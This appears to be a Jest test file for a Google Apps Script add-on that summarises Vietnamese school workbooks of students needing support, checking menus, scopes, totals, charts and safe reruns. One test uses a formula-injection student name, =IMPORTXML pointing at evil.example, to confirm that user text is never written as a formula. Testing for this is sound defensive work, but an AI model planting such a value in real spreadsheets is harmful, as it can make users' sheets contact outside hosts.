// build/Code.js, exactly as pushed, run in a vm on workbooks the tests generate.
import fs from 'fs';
import os from 'os';
import path from 'path';
import { buildSchoolWorkbook, FakeWorkbook, roundTrip, runSummarize, saveAndReload, snapshot, stable } from '../helpers/bundle';
import { SEED_000, seed000School } from '../helpers/seed000';
import { loadBundle, runSimpleTrigger } from '../../local/load-bundle';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hths-'));
const AREAS = ['Toán', 'Tiếng Việt', 'Năng lực', 'Phẩm chất'];

function seedWorkbook() {
  const { classes, students } = seed000School();
  return buildSchoolWorkbook({
    title: ['UBND PHƯỜNG BÌNH PHƯỚC', 'TRƯỜNG TIỂU HỌC THỬ', 'DANH SÁCH HỌC SINH CẦN HỖ TRỢ'],
    headerStyle: 'two-row', points: ['DN', 'GKI', 'CKI'], areas: AREAS, students,
    classes: classes.map(([name, grade, teacher, size]) => ({ name, grade, teacher, size })),
    config: [['Tên trường', 'Trường Tiểu học Thử'], ['Năm học', '2025-2026']],
  }).workbook;
}

describe('the pushed bundle', () => {
  const code = fs.readFileSync(path.join(__dirname, '../../build/Code.js'), 'utf8');

  it('declares every public function at top level, so Apps Script finds them', () => {
    for (const name of ['onOpen', 'menuSummarize', 'menuCheck', 'menuTimeline', 'menuOpenSidebar', 'menuCreateTemplate', 'menuHelp',
      'sidebarAnalyse', 'sidebarRun', 'sidebarLastRun', 'sidebarSelectCell', 'sidebarGetSettings', 'sidebarSaveSettings']) {
      // A top-level stub before webpack's bootstrap; the bundle assigns the real function to it.
      const prelude = code.slice(0, code.indexOf('webpackBootstrap'));
      expect(prelude).toMatch(new RegExp(`^function ${name}\\(\\) \\{\\n\\}`, 'm'));
      expect(code).toContain(`__webpack_require__.g.${name} = ${name};`);
    }
    expect(code).not.toMatch(/\brequire\(|process\.|__webpack_exports__/);
  });

  it('asks for the least privilege: this document only, two scopes, no network', () => {
    expect(code).toContain('@OnlyCurrentDoc');
    expect(code).not.toMatch(/UrlFetchApp|DriveApp|GmailApp/);
    const manifest = JSON.parse(fs.readFileSync(path.join(__dirname, '../../build/appsscript.json'), 'utf8'));
    expect(manifest).toMatchObject({ timeZone: 'Asia/Ho_Chi_Minh', runtimeVersion: 'V8' });
    expect(manifest.oauthScopes).toEqual([
      'https://www.googleapis.com/auth/spreadsheets.currentonly',
      'https://www.googleapis.com/auth/script.container.ui',
    ]);
  });

  it('onOpen adds the Hỗ trợ học sinh menu with every step, and nothing else (it runs without authorization)', () => {
    const book = FakeWorkbook.empty();
    const context = loadBundle(book, { today: '2026-01-20' });
    runSimpleTrigger(book, context, 'onOpen', 'NONE');
    expect(book.log.sequence.filter((call) => !/^(SpreadsheetApp\.getUi|Ui\.createMenu|Menu\.)/.test(call))).toEqual([]);
    const menu = book.menus.at(-1)!;
    expect(menu.title).toBe('Hỗ trợ học sinh');
    const items = menu.items.filter((i) => i !== null);
    expect(items.map((i) => i.label)).toEqual(
      ['Tổng hợp', 'Kiểm tra danh sách', 'Tạo lịch tháng', 'Mở bảng điều khiển', 'Tạo bảng mẫu', 'Hướng dẫn']);
    for (const item of items) expect(typeof context[item.functionName]).toBe('function');
  });
});

describe('Tổng hợp end to end', () => {
  it('reproduces the seed 000 table from a merged two-row header under title rows: TC 1511, not 1611', async () => {
    const book = await roundTrip(seedWorkbook());
    const { json } = runSummarize(book, { today: '2025-10-10' });
    expect(json.schoolYear).toBe('2025-2026');
    expect(json.reviewPoints).toEqual(['DN']);
    expect(json.areas).toEqual(AREAS);
    expect(json.problems).toEqual([]);
    expect(json.totals.DN.byGrade.map((g: { grade: number; students: number; needSupport: number; byArea: object }) =>
      ({ grade: g.grade, students: g.students, need: g.needSupport, byArea: g.byArea }))).toEqual(SEED_000);
    expect(json.totals.DN.total).toMatchObject({ students: 1511, needSupport: 96, byArea: { Toán: 80, 'Tiếng Việt': 90, 'Năng lực': 72, 'Phẩm chất': 67 } });
    // The printed tab says the same.
    const summary = book.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tổng hợp')!.getDataRange().getValues();
    const tc = summary.find((row: unknown[]) => row[0] === 'TC');
    expect(tc!.slice(0, 7)).toEqual(['TC', 1511, 96, 80, 90, 72, 67]);
  });

  it('draws the column chart of needs by khối and review point beside the report', async () => {
    const book = await roundTrip(seedWorkbook());
    runSummarize(book, { today: '2025-10-10' });
    const sheet = book.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tổng hợp')!;
    const charts = sheet.getCharts();
    expect(charts).toHaveLength(1);
    expect(String(charts[0].modify().getChartType())).toBe('COLUMN');
    expect(charts[0].getRanges().map((r: GoogleAppsScript.Spreadsheet.Range) => r.getA1Notation())).toEqual(['K1:L6']);
    expect(charts[0].getContainerInfo().getAnchorRow()).toBe(8);
    expect(sheet.getRange('K1:L6').getValues()).toEqual([['Khối', 'Đầu năm'], ['Khối 1', 34], ['Khối 2', 22], ['Khối 3', 10], ['Khối 4', 15], ['Khối 5', 15]]);
  });

  it('reads one-row combined headers ("Toán (GHKI)")', async () => {
    const students = [
      { name: 'Nguyễn Văn An', className: '3A', supporter: 'Cô Mai', ratings: { GKI: { Toán: 'C', 'Tiếng Việt': 'H' }, CKI: { Toán: 'H' } } },
      { name: 'Lê Thị Bình', className: '3a', supporter: 'Cô Mai', ratings: { GKI: { Toán: 'T', 'Năng lực': 'C' }, CKI: { 'Năng lực': 'C' } } },
      { name: 'Phạm Minh Châu', className: '4B', supporter: '', ratings: { GKI: { 'Phẩm chất': 'CCG' } } },
    ];
    const { workbook } = buildSchoolWorkbook({
      headerStyle: 'one-row', points: ['GKI', 'CKI'], areas: AREAS, students,
      combinedLabel: (p: string, a: string) => `${a} (${p === 'GKI' ? 'GHKI' : 'CHKI'})`,
    });
    const { json } = runSummarize(await roundTrip(workbook), { today: '2025-12-05' });
    expect(json.reviewPoints).toEqual(['GKI', 'CKI']);
    expect(json.totals.GKI.total).toEqual({ students: 3, needSupport: 3, byArea: { Toán: 1, 'Tiếng Việt': 0, 'Năng lực': 1, 'Phẩm chất': 1 }, disability: 0 });
    expect(json.totals.CKI.total).toMatchObject({ needSupport: 1, byArea: { 'Năng lực': 1 } });
    expect(json.flags.map((f: { name: string; reviewPoint: string; kinds: string[] }) => `${f.name}/${f.reviewPoint}/${f.kinds.join('+')}`)).toEqual([
      'Nguyễn Văn An/GKI/new', 'Nguyễn Văn An/CKI/improved', 'Lê Thị Bình/GKI/new', 'Lê Thị Bình/CKI/notImproved', 'Phạm Minh Châu/GKI/noSupporter+new',
    ]);
  });

  it('a second run on its own output gives the same JSON and replaces the generated tabs, never duplicates them', async () => {
    const first = await roundTrip(seedWorkbook());
    const run1 = runSummarize(first, { today: '2025-10-10' });
    const names1 = first.globals.SpreadsheetApp.getActiveSpreadsheet().getSheets().map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getName());
    const second = await saveAndReload(first, path.join(tmp, 'run1.xlsx'));
    const ids1 = second.globals.SpreadsheetApp.getActiveSpreadsheet().getSheets().map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getSheetId());
    const run2 = runSummarize(second, { today: '2025-10-10' });
    const sheets2 = second.globals.SpreadsheetApp.getActiveSpreadsheet().getSheets();
    expect(sheets2.map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getName())).toEqual(names1);
    expect(names1).toEqual(['Danh sách', 'Lớp', 'Cấu hình', 'Kiểm tra', 'Tổng hợp', 'Theo dõi', 'Lịch tháng', 'Đỡ đầu']);
    // Same JSON; only the call count (and the time it would take) may grow, by the calls that delete and move the old tabs.
    const withoutCalls = (json: { stats: Record<string, unknown> }) => ({ ...stable(json), stats: { ...stable(json).stats, spreadsheetCalls: 0, estimatedSeconds: 0 } });
    expect(withoutCalls(run2.json)).toEqual(withoutCalls(run1.json));
    expect(run2.json.stats.spreadsheetCalls).toBeGreaterThanOrEqual(run1.json.stats.spreadsheetCalls);
    expect(run2.json.stats.estimatedSeconds).toBeGreaterThanOrEqual(run1.json.stats.estimatedSeconds);
    // Input tabs kept their ids; generated tabs are fresh sheets.
    const ids2 = sheets2.map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getSheetId());
    expect(ids2.slice(0, 3)).toEqual(ids1.slice(0, 3));
    for (const id of ids2.slice(3)) expect(ids1).not.toContain(id);
  });

  it('never changes an input tab', async () => {
    const book = await roundTrip(seedWorkbook());
    const inputs = ['Danh sách', 'Lớp', 'Cấu hình'];
    const before = snapshot(book, inputs);
    runSummarize(book, { today: '2026-01-20' });
    expect(snapshot(book, inputs)).toEqual(before);
    const reloaded = await saveAndReload(book, path.join(tmp, 'inputs.xlsx'));
    expect(snapshot(reloaded, inputs)).toEqual(before);
  });

  it('never overwrites a tab the school made with a generated tab\'s name, and says what to rename', async () => {
    const workbook = seedWorkbook();
    const own = workbook.addWorksheet('Tổng hợp');
    own.getCell('A1').value = 'Bảng của tổ trưởng';
    const book = await roundTrip(workbook);
    const { outcome } = runSummarize(book, { today: '2025-10-10' });
    expect(outcome.conflicts).toEqual(['Tổng hợp']);
    expect(outcome.written).toEqual(['Kiểm tra', 'Theo dõi', 'Lịch tháng', 'Đỡ đầu']);
    expect(book.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Tổng hợp')!.getDataRange().getValues()).toEqual([['Bảng của tổ trưởng']]);
    expect(book.toasts.at(-1)!.message).toContain('đổi tên trang đó');
  });

  it('writes user text as text: a name like =IMPORTXML(…) is never a formula', async () => {
    const students = [
      { name: '=IMPORTXML("http://evil.example","//a")', className: '1A', supporter: '+84 912', ratings: { GKI: { Toán: 'C' } } },
      { name: '10%', className: '1A', supporter: '2024-01-31', ratings: { GKI: { Toán: 'C' } } },
    ];
    const { workbook } = buildSchoolWorkbook({ headerStyle: 'one-row', points: ['GKI'], areas: AREAS, students });
    const book = await roundTrip(workbook);
    runSummarize(book, { today: '2025-12-01' });
    const tracking = book.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Theo dõi')!.getDataRange();
    const text = JSON.stringify(tracking.getValues());
    expect(text).toContain('=IMPORTXML(\\"http://evil.example\\",\\"//a\\")');
    expect(text).toContain('"10%"');
    expect(text).toContain('"2024-01-31"');
    expect(JSON.stringify(tracking.getFormulas())).not.toContain('IMPORTXML');
  });

  it('a failure while writing leaves every previous generated tab intact and says so plainly', async () => {
    const book = await roundTrip(seedWorkbook());
    runSummarize(book, { today: '2025-10-10' });
    const before = snapshot(book);
    book.log.failOn('Range.setValues', 3); // the third tab being built
    expect(() => runSummarize(book, { today: '2025-10-11' })).toThrow('Service Spreadsheets timed out');
    expect(snapshot(book)).toEqual(before);
    expect(book.alerts.at(-1)!.message).toMatch(/^Chưa chạy được: /);
  });

  it('a copy of a generated tab that kept the marker stays the school\'s; only ours is replaced', async () => {
    const book = await roundTrip(seedWorkbook());
    runSummarize(book, { today: '2025-10-10' });
    const ss = book.globals.SpreadsheetApp.getActiveSpreadsheet();
    const copy = ss.insertSheet('Bản sao của Tổng hợp');
    copy.getRange('A1').setValue('ghi chú của hiệu trưởng');
    copy.addDeveloperMetadata('hoTroHocSinh.generatedTab', 'summary');
    const ours = ss.getSheetByName('Tổng hợp')!.getSheetId();
    runSummarize(book, { today: '2025-10-11' });
    expect(ss.getSheetByName('Bản sao của Tổng hợp')!.getRange('A1').getValue()).toBe('ghi chú của hiệu trưởng');
    expect(ss.getSheetByName('Tổng hợp')!.getSheetId()).not.toBe(ours);
  });

  it('a tab half-built by a run Apps Script stopped is swept away by the next run', async () => {
    const book = await roundTrip(seedWorkbook());
    const ss = book.globals.SpreadsheetApp.getActiveSpreadsheet();
    ss.insertSheet('Tổng hợp (đang tạo 4242)').addDeveloperMetadata('hoTroHocSinh.generatedTab', 'building');
    runSummarize(book, { today: '2025-10-10' });
    expect(ss.getSheets().map((s: GoogleAppsScript.Spreadsheet.Sheet) => s.getName()))
      .toEqual(['Danh sách', 'Lớp', 'Cấu hình', 'Kiểm tra', 'Tổng hợp', 'Theo dõi', 'Lịch tháng', 'Đỡ đầu']);
  });

  it('a second person clicking while a run holds the lock gets a clear message and nothing is written', async () => {
    const book = await roundTrip(seedWorkbook());
    const before = snapshot(book);
    book.lockHeld = true;
    expect(() => runSummarize(book, { today: '2025-10-10' })).toThrow('Đang có người khác chạy Tổng hợp');
    expect(snapshot(book)).toEqual(before);
  });

  it('the generated tabs are marked as ours with developer metadata', async () => {
    const book = await roundTrip(seedWorkbook());
    runSummarize(book, { today: '2025-10-10' });
    const found = book.globals.SpreadsheetApp.getActiveSpreadsheet().createDeveloperMetadataFinder().withKey('hoTroHocSinh.generatedTab').find();
    expect(found.map((m: GoogleAppsScript.Spreadsheet.DeveloperMetadata) => `${m.getValue()}=${m.getLocation().getSheet()?.getName()}`).sort())
      .toEqual(['check=Kiểm tra', 'mentors=Đỡ đầu', 'summary=Tổng hợp', 'timeline=Lịch tháng', 'tracking=Theo dõi']);
  });
});
